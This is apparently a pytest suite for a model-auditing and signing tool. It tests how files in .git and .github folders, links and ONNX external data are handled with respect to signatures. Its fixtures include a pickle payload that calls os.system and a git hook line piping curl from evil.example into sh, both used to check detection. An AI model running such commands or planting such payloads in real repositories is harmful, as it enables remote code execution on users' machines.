"""What signatures leave out (`.git`, `.github` and the like) is audited, and what Git keeps for itself is not read."""

from __future__ import annotations

import json
import os
import shutil
import socket
import subprocess
import zlib
from collections.abc import Callable
from pathlib import Path

import pytest

from assay.facts.artifact import EXCLUDED
from assay.facts.dossier import Dossier, Verdict, WaiverState
from assay.facts.finding import Kind
from assay.subject import walked
from assay.subject.reach import INERT, UNREAD, aside, reached
from tests.builders import calls, hub_model
from tests.builders.command import run
from tests.builders.keys import private
from tests.conftest import messages
from tests.hostile.graphs import field, node, onnx

Audit = Callable[..., Dossier]
PAYLOAD = calls("os", "system", "true")
MODULES = [
    {"idx": 0, "name": "0", "path": "", "type": "sentence_transformers.models.Transformer"},
    {"idx": 1, "name": "1", "path": ".github", "type": "sentence_transformers.models.Dense"},
]
LFS_HOOK = (
    "#!/bin/sh\n"
    'command -v git-lfs >/dev/null 2>&1 || { printf >&2 "\\n%s\\n\\n" "no \'git-lfs\' was found"; exit 2; }\n'
    'git lfs post-checkout "$@"\n'
)


def put(root: Path, files: dict[str, bytes | str]) -> None:
    for name, content in files.items():
        (root / name).parent.mkdir(parents=True, exist_ok=True)
        (root / name).write_bytes(content if isinstance(content, bytes) else content.encode())


def store(root: Path) -> None:
    """A repository as a clone with LFS leaves it."""
    oid = "ab" * 32
    put(
        root,
        {
            ".gitattributes": "*.safetensors filter=lfs diff=lfs merge=lfs -text\n",
            ".git/HEAD": "ref: refs/heads/main\n",
            ".git/config": '[core]\n\tbare = false\n[remote "origin"]\n\turl = https://hub.example/org/m\n',
            ".git/description": "Unnamed repository\n",
            ".git/index": b"DIRC\0\0\0\2\0\0\0\0" + bytes(20),
            ".git/packed-refs": f"# pack-refs with: peeled\n{oid[:40]} refs/remotes/origin/main\n",
            ".git/FETCH_HEAD": "",
            ".git/refs/heads/main": f"{oid[:40]}\n",
            ".git/logs/HEAD": f"{'0' * 40} {oid[:40]} a <a@b.example> 1700000000 +0000\tclone\n",
            ".git/info/exclude": "# nothing\n",
            ".git/hooks/pre-commit.sample": "#!/bin/sh\nexec git diff-index --check HEAD\n",
            ".git/hooks/post-checkout": LFS_HOOK,
            f".git/objects/ab/{oid[:38]}": zlib.compress(b"blob 2\0hi"),
            f".git/objects/pack/pack-{oid[:40]}.pack": b"PACK\0\0\0\2\0\0\0\0" + bytes(20),
            f".git/objects/pack/pack-{oid[:40]}.idx": b"\xfftOc\0\0\0\2" + bytes(1064),
            f".git/lfs/objects/ab/ab/{oid}": b"weights of gigabytes",
            ".git/lfs/cache/locks/refs/heads/main/verifiable": "{}",
            ".git/modules/part/HEAD": "ref: refs/heads/main\n",
        },
    )


@pytest.mark.parametrize("folder", [*sorted(EXCLUDED)])
def test_a_pickle_that_signatures_leave_out_fails_the_model(tmp_path: Path, audit: Audit, folder: str) -> None:
    model = hub_model(tmp_path / "m")
    modules = json.dumps([MODULES[0], {**MODULES[1], "path": folder}])
    put(model, {"modules.json": modules, f"{folder}/pytorch_model.bin": PAYLOAD})
    dossier = audit(model)
    assert dossier.decision.verdict is Verdict.FAILED and dossier.excluded == (folder,)
    assert any("os.system" in row or "posix.system" in row for row in messages(dossier, "pickle.reaches-outside"))
    assert messages(dossier, "signature.unverified", Kind.REVIEW) == [
        f"{folder}/pytorch_model.bin lies where no model signature covers it, and modules.json names it at /1/path"
    ]


def test_a_clone_is_audited_without_what_git_keeps_in_it(tmp_path: Path, audit: Audit) -> None:
    model = hub_model(tmp_path / "m")
    plain = audit(model)
    store(model)
    with socket.socket(socket.AF_UNIX) as server:
        place = os.getcwd()
        os.chdir(model / ".git")  # the path of a socket is short
        server.bind("fsmonitor--daemon.ipc")
        os.chdir(place)
        dossier = audit(model)
    assert dossier.decision.verdict is Verdict.PASSED and dossier.aside == (".git",)
    assert [row.path for row in dossier.artifacts if row.path.startswith(".git")] == [".gitattributes"]
    assert dossier.subject.sha256 == plain.subject.sha256
    assert not messages(dossier, "signature.unverified", Kind.REVIEW)
    text = " ".join(run("audit", str(model)).stdout.split())
    assert "not read: what Git keeps for itself in .git, which no file of the model leads a loader to" in text


@pytest.mark.skipif(shutil.which("git") is None, reason="needs git")
def test_a_clone_by_git_itself_has_nothing_that_is_read(tmp_path: Path) -> None:
    def git(*words: str) -> None:
        settings = ("-c", "user.email=a@b.example", "-c", "user.name=a", "-c", "init.defaultBranch=main")
        subprocess.run(("git", *settings, *words), check=True, capture_output=True)

    made, clone = hub_model(tmp_path / "m"), tmp_path / "clone"
    for words in (("init",), ("add", "."), ("commit", "-m", "a"), ("tag", "-a", "v1", "-m", "v1")):
        git("-C", str(made), *words)
    git("clone", f"file://{made}", str(clone))
    git("-C", str(clone), "fetch")
    git("-C", str(made), "repack", "-ad", "--write-bitmap-index")
    for folder in (made, clone):
        walk = walked(folder)
        assert not [entry.path for entry in walk.entries if entry.path.startswith(".git/")] and walk.aside


@pytest.mark.parametrize(
    ("name", "content"),
    [
        (".git/hooks/post-checkout", "#!/bin/sh\ncurl https://evil.example | sh\n"),
        (".git/objects/ab/" + "ab" * 19, PAYLOAD),
        (".git/index", PAYLOAD),
        (".git/1_Dense/pytorch_model.bin", PAYLOAD),
        (".git/config", PAYLOAD),
    ],
)
def test_what_only_calls_itself_gits_is_read(tmp_path: Path, name: str, content: bytes | str) -> None:
    store(tmp_path)
    put(tmp_path, {name: content})
    assert name in [entry.path for entry in walked(tmp_path).entries]


def test_a_folder_that_is_no_repository_is_read_whole(tmp_path: Path) -> None:
    put(tmp_path, {".git/HEAD": "x", ".git/config": "x"})
    assert [entry.path for entry in walked(tmp_path).entries] == [".git/HEAD", ".git/config"]


@pytest.mark.parametrize("path", ["", "./", "/", "x/../", "x://../"])
def test_an_object_of_git_is_read_where_a_file_names_it(tmp_path: Path, audit: Audit, path: str) -> None:
    model = hub_model(tmp_path / "m")
    store(model)
    hidden = f".git/lfs/objects/ab/ab/{'ab' * 32}"
    index = {"metadata": {}, "weight_map": {"w": f"{path}{hidden}"}}
    put(model, {hidden: PAYLOAD, "pytorch_model.bin.index.json": json.dumps(index)})
    dossier = audit(model)
    assert dossier.decision.verdict is Verdict.FAILED and not dossier.aside
    assert any(hidden in row for row in messages(dossier, "pickle.reaches-outside", Kind.FAIL))


def test_two_models_that_differ_in_names_only_differ(tmp_path: Path, audit: Audit) -> None:
    one, two = (audit(hub_model(tmp_path / name)) for name in ("a", "b"))
    assert one.subject.files_sha256 == two.subject.files_sha256
    (tmp_path / "b" / "model.safetensors").rename(tmp_path / "b" / "model2.safetensors")
    renamed = audit(tmp_path / "b")
    assert renamed.subject.sha256 == one.subject.sha256
    assert renamed.subject.files_sha256 != one.subject.files_sha256


def test_the_digest_over_names_is_that_of_sha256sum(tmp_path: Path, audit: Audit) -> None:
    model = hub_model(tmp_path / "m")
    put(model, {".github/workflows/test.yml": "on: push\n", ".gitattributes": "* text\n"})
    dossier = audit(model)
    names = sorted((row.path for row in dossier.artifacts), key=lambda path: path.split("/"))
    done = subprocess.run(("sha256sum", "-z", *names), cwd=model, capture_output=True, check=True)
    whole = subprocess.run(("sha256sum",), input=done.stdout, capture_output=True, check=True)
    assert whole.stdout.split()[0].decode() == dossier.subject.files_sha256
    assert {".gitattributes", ".github/workflows/test.yml"} <= set(names)
    assert dossier.decision.verdict is Verdict.PASSED


def test_a_waiver_for_what_no_signature_covers_is_bound_to_its_bytes(tmp_path: Path, audit: Audit) -> None:
    model = hub_model(tmp_path / "m")
    put(model, {".github/x.bin": PAYLOAD})
    digest, rules = audit(model).subject, tmp_path / "policy.toml"

    def accepted(more: str) -> WaiverState:
        rules.write_text(
            'schema = "assay-policy/1"\nname = "ours"\ndescription = "d"\n[block]\nfail = ["*"]\n'
            '[[waiver]]\ncheck = "pickle.reaches-outside"\nartifact = ".github/x.bin"\n'
            f'subject = "{digest.sha256}"\nreason = "r"\nowner = "o"\nexpires = 2099-01-01\n{more}'
        )
        (waiver,) = audit(model, policy=str(rules)).waivers
        return waiver.state

    assert accepted("") is WaiverState.UNMATCHED
    assert accepted(f'manifest = "{digest.files_sha256}"\n') is WaiverState.APPLIED
    put(model, {".github/x.bin": calls("os", "system", "false")})
    assert accepted(f'manifest = "{digest.files_sha256}"\n') is WaiverState.OTHER_SUBJECT


@pytest.mark.parametrize("after", [b"harmless once", PAYLOAD])
def test_a_signed_model_that_leads_outside_its_signature_is_refused(tmp_path: Path, audit: Audit, after: bytes) -> None:
    """Signed while `.github` was empty, and filled afterwards: what the signer signed names it."""
    model, key = hub_model(tmp_path / "m"), tmp_path / "acme.pem"
    put(model, {"modules.json": json.dumps(MODULES)})
    private(key)
    assert run("sign", str(model), "--key", str(key)).returncode == 0
    assert run("verify", str(model), "--key", str(tmp_path / "acme.pub")).returncode == 0
    put(model, {".github/pytorch_model.bin": after, ".github/workflows/test.yml": "on: push\n"})
    done = run("verify", str(model), "--key", str(tmp_path / "acme.pub"))
    said = ".github/pytorch_model.bin (modules.json names it at /1/path)"
    assert done.returncode == 1 and done.stdout.startswith(" NOT VERIFIED ") and said in done.stdout
    assert "not covered by the signature: .github/workflows/test.yml" in done.stdout
    (tmp_path / "trust.toml").write_text('[[key]]\nname = "Acme"\nfile = "acme.pub"\n')
    dossier = audit(model, trust=tmp_path / "trust.toml")
    assert dossier.decision.verdict is Verdict.FAILED
    assert messages(dossier, "signature.invalid", Kind.FAIL) == [
        ".github/pytorch_model.bin is not covered by the signature, and modules.json names it at /1/path"
    ]
    refused = run("sign", str(model), "--key", str(key))
    assert refused.returncode == 2 and "is left out of signatures, and modules.json names it" in refused.stderr


def test_a_file_that_may_name_anything_is_no_excuse(tmp_path: Path) -> None:
    """A key that occurs twice: loaders read the file, assay does not."""
    model, key = hub_model(tmp_path / "m"), tmp_path / "acme.pem"
    put(model, {"modules.json": '[{"path": "", "path": ".github"}]'})
    private(key)
    assert run("sign", str(model), "--key", str(key)).returncode == 0
    put(model, {".github/model.safetensors": (model / "model.safetensors").read_bytes()})
    done = run("verify", str(model), "--key", str(tmp_path / "acme.pub"))
    assert done.returncode == 1 and "modules.json was not read to its end and may name it" in done.stdout


@pytest.mark.parametrize(
    ("file", "text", "where"),
    [
        ("modeling.py", "import torch\n\n\nWEIGHTS = torch.load('.github/w.pt')\n", "line 4"),
        ("modeling.py", "from pathlib import Path\n\nHOME = Path('.github')\nFILE = HOME / 'w.pt'\n", "line 3"),
        ("modeling.py", "WEIGHTS = f'{HOME}/.github/w.pt'\n", "line 1"),
        ("modeling.py", "WEIGHTS = '\\x2egithub/w.pt'\n", "line 1"),
        ("server.toml", "[model]\nweights = '.github/w.pt'\n", "/model/weights"),
        ("config.cfg", "[initialize]\nvectors = .github/w.pt\n", "/initialize/vectors"),
        ("config.pbtxt", 'parameters: { key: "model" value: { string_value: ".github/w.pt" } }\n', "/string_value"),
    ],
)
def test_code_and_settings_name_files_like_any_configuration(tmp_path: Path, file: str, text: str, where: str) -> None:
    model, key = hub_model(tmp_path / "m"), tmp_path / "acme.pem"
    put(model, {file: text, ".github/w.pt": PAYLOAD, ".github/workflows/test.yml": "on: push\n"})
    private(key)
    refused = run("sign", str(model), "--key", str(key))
    assert refused.returncode == 2
    assert f".github/w.pt is left out of signatures, and {file} names it at {where}" in refused.stderr
    (model / ".github/w.pt").unlink()
    assert run("sign", str(model), "--key", str(key)).returncode == 0
    put(model, {".github/w.pt": PAYLOAD})
    done = run("verify", str(model), "--key", str(tmp_path / "acme.pub"))
    assert done.returncode == 1 and f".github/w.pt ({file} names it at {where})" in done.stdout


def test_tools_that_pass_over_what_git_keeps_hinder_no_signing(tmp_path: Path) -> None:
    """Names of folders in code and in what configures tools, with nothing there that a loader takes."""
    model, key = hub_model(tmp_path / "m"), tmp_path / "acme.pem"
    store(model)
    code = "IGNORED = {'.git', '.github', '.gitattributes'}\nDOCS = 'https://hub.example/org/m/.github/workflows'\n"
    put(model, {"tools.py": code, "setup.cfg": "[flake8]\nexclude = .git,.github\n", ".github/CODEOWNERS": "* @a\n"})
    private(key)
    assert run("sign", str(model), "--key", str(key)).returncode == 0


def test_a_clone_with_workflows_is_signed_and_verified(tmp_path: Path, audit: Audit) -> None:
    model, key = hub_model(tmp_path / "m"), tmp_path / "acme.pem"
    store(model)
    put(model, {".github/workflows/test.yml": "on: push\n", ".github/CODEOWNERS": "* @a\n"})
    private(key)
    assert run("sign", str(model), "--key", str(key)).returncode == 0
    done = run("verify", str(model), "--key", str(tmp_path / "acme.pub"))
    assert done.returncode == 0 and done.stdout.startswith(" VERIFIED "), done.stdout
    assert "not covered by the signature: .github/CODEOWNERS" in done.stdout and ".git/HEAD" not in done.stdout
    (tmp_path / "trust.toml").write_text('[[key]]\nname = "Acme"\nfile = "acme.pub"\n')
    (passed,) = messages(audit(model, trust=tmp_path / "trust.toml"), "signature.invalid", Kind.PASS)
    assert passed.endswith(
        "not covered by the signature: .gitattributes, .github/CODEOWNERS, .github/workflows/test.yml"
    )


def test_obstacles_where_signatures_do_not_reach_hinder_no_signing(tmp_path: Path) -> None:
    model, key = hub_model(tmp_path / "m"), tmp_path / "acme.pem"
    (model / ".github").mkdir()
    os.mkfifo(model / ".github" / "pipe")
    private(key)
    assert run("sign", str(model), "--key", str(key)).returncode == 0
    assert run("verify", str(model), "--key", str(tmp_path / "acme.pub")).returncode == 0


def test_what_a_signer_left_out_on_its_own_is_opened_by_its_kind() -> None:
    left = {"extra/model.bin": "torch-zip", "notes.txt": "text", "logo.png": INERT, ".github/a.bin": "torch-zip"}
    assert [row.artifact for row in reached(left, ())] == ["extra/model.bin"]


def test_a_name_that_others_begin_with_leads_to_them() -> None:
    from assay.facts.structure import PathOutside

    named = PathOutside("sub/checkpoint.json", "/path", "../.github/model.ckpt")
    left = {".github/model.ckpt.index": "unknown", ".github/model.ckpt-1": "unknown", ".github/model2": "unknown"}
    assert [row.artifact for row in reached(left, [named])] == [".github/model.ckpt.index", ".github/model.ckpt-1"]


def test_a_folder_that_git_keeps_is_not_opened_by_its_name(tmp_path: Path) -> None:
    """`exclude = [".git"]` stands in many a configuration."""
    from assay.facts.structure import PathOutside

    store(tmp_path)
    left = aside(walked(tmp_path))
    assert set(left.values()) == {UNREAD} and len(left) > 10
    assert not reached(left, [PathOutside("a.json", "/exclude/0", ".git"), PathOutside("a.json", "/b", ".git/objects")])


@pytest.mark.parametrize(
    ("link", "path"), [("pytorch_model.bin", ".git/1_Dense"), ("0_Pooling", ".git/1_Dense/0_Pooling/deep"), ("", "")]
)
def test_a_link_among_what_git_keeps_is_told_where_a_path_leads_to_it(
    tmp_path: Path, audit: Audit, link: str, path: str
) -> None:
    """A loader follows it to bytes that nobody looked at."""
    model, key = hub_model(tmp_path / "m"), tmp_path / "acme.pem"
    store(model)
    put(tmp_path, {"elsewhere/pytorch_model.bin": PAYLOAD})
    (model / ".git" / "1_Dense").mkdir()
    target = tmp_path / "elsewhere" / (link if link.endswith(".bin") else "")
    (model / ".git" / "1_Dense" / (link or "0_Pooling")).symlink_to(target)
    put(model, {"modules.json": json.dumps([MODULES[0], {**MODULES[1], "path": path}])})
    private(key)
    dossier, signed = audit(model), run("sign", str(model), "--key", str(key))
    if link:
        assert dossier.decision.verdict is not Verdict.PASSED and not dossier.aside
        assert any(f".git/1_Dense/{link}: it is a link" in row for row in messages(dossier, "artifact.unreachable"))
        assert signed.returncode == 2 and "modules.json names it at /1/path" in signed.stderr
    else:
        assert dossier.decision.verdict is Verdict.PASSED and dossier.aside == (".git",)
        assert signed.returncode == 0


def test_a_link_that_a_signature_leaves_out_is_no_way_around_it(tmp_path: Path) -> None:
    model, key = hub_model(tmp_path / "m"), tmp_path / "acme.pem"
    put(model, {"modules.json": json.dumps(MODULES)})
    private(key)
    assert run("sign", str(model), "--key", str(key)).returncode == 0
    put(tmp_path, {"elsewhere.bin": PAYLOAD})
    (model / ".github").mkdir()
    (model / ".github" / "pytorch_model.bin").symlink_to(tmp_path / "elsewhere.bin")
    done = run("verify", str(model), "--key", str(tmp_path / "acme.pub"))
    assert done.returncode == 1 and ".github/pytorch_model.bin (modules.json names it at /1/path)" in done.stdout


def test_weights_that_a_graph_reads_where_no_signature_reaches_are_told(tmp_path: Path, audit: Audit) -> None:
    """They are what ONNX calls external data: bytes that no reader knows, as the graph says where they are."""
    model, key = tmp_path / "m", tmp_path / "acme.pem"
    place = field(13, field(1, "location") + field(2, ".github/w.data"))
    floats = field(1, 4) + field(2, 1) + field(8, "w") + place + field(14, 1)
    put(model, {"model.onnx": onnx(node("Relu"), tensors=(floats,)), ".github/w.data": b"\xff\3\xc8\x3e" * 4})
    private(key)
    assert messages(audit(model), "signature.unverified", Kind.REVIEW) == [
        ".github/w.data lies where no model signature covers it, and model.onnx names it at external_data of 'w'"
    ]
    assert run("sign", str(model), "--key", str(key)).returncode == 2
